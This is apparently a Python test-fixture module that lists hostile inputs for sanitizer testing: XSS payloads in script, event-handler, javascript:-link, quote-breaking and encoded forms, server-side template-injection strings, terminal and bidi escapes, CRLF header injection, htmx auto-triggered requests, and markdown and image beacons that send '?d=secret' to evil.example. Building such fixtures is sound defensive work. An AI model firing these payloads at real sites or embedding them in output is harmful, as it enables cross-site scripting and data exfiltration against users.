"""Texts that try to become more than text: markup, script, addresses, escapes."""

_HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
_TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "input",
    "details",
    "iframe",
    "math",
    "select",
    "button",
    "object",
    "marquee",
)
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:")
_CALL = "window.pwned=1"
_QUOTES = (
    *('"', "'", "`", '">', "'>", "-->", "</title>", "</script>", "</textarea>", "</pre>"),
    *("]]>", "*/", "}}", "</svg>", "</style>", "</p>"),
)

SCRIPTS: tuple[str, ...] = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script\x0b>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    "<script src=http://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg/onload={_CALL}>",
    f"<math><mtext></mtext><script>{_CALL}</script></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>x</button></form>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style=background:url(http://evil.example/x)>x</div>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
    "{{ 7 * 7 }}{% for x in [1] %}x{% endfor %}{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\u202egnp.exe \u200b\u2066hidden\u2069",
    "\ufeff<script>window.pwned=1</script>",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "<hx-partial hx-target='body'><img src=x onerror=window.pwned=1></hx-partial>",
    "<div hx-get='/logout' hx-trigger='load'>x</div>",
    "<div hx-on:load='window.pwned=1' hx-trigger=load>x</div>",
    "<button hx-post='/approvals/7' hx-vals='{\"answer\":\"yes\"}' hx-trigger='load'>x</button>",
    "<div hx-sse:connect='http://evil.example/stream'></div>",
    "data: x\nid: 999\nevent: hx:release\n\nretry: 1",
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>window.pwned=1</script>",
)
HANDLERS = tuple(f"<{tag} src=x {handler}={_CALL}>" for tag in _TAGS for handler in _HANDLERS)
BREAKS = tuple(
    f"{quote}{then}"
    for quote in _QUOTES
    for then in (
        f"<img src=x onerror={_CALL}>",
        f"<script>{_CALL}</script>",
        f"<svg onload={_CALL}>",
        f" onmouseover={_CALL} autofocus onfocus={_CALL} x=",
    )
)
LINKS = tuple(
    f"<a href={quote}{scheme}{_CALL}{quote}>x</a>"
    for scheme in _SCHEMES
    for quote in ('"', "'", "")
)
ENTITIES = tuple(
    text
    for char in "<>\"'&/"
    for text in (f"&#{ord(char)};script", f"&#x{ord(char):x};script", f"%{ord(char):x}script")
)
EVERY = (*SCRIPTS, *HANDLERS, *BREAKS, *LINKS, *ENTITIES)

_OUT = "http://evil.example"
MARKDOWN: tuple[str, ...] = tuple(
    text
    for part in ("?d=secret", "/secret.png", "/a%20b", "/#x", "/x?y=z&w=1", ":8080/x")
    for text in (
        f"![x]({_OUT}{part})",
        f'![x]({_OUT}{part} "title")',
        f"[x]({_OUT}{part})",
        f"![x][1]\n\n[1]: {_OUT}{part}",
        f"<img src='{_OUT}{part}'>",
        f'<picture><source srcset="{_OUT}{part}"><img></picture>',
        f"<video poster={_OUT}{part}></video>",
        f"<link rel=prefetch href={_OUT}{part}><link rel=dns-prefetch href={_OUT}>",
        f"<svg><image href={_OUT}{part} /><use href={_OUT}{part} /></svg>",
        f"<p style=\"background:url('{_OUT}{part}')\">x</p>",
    )
)
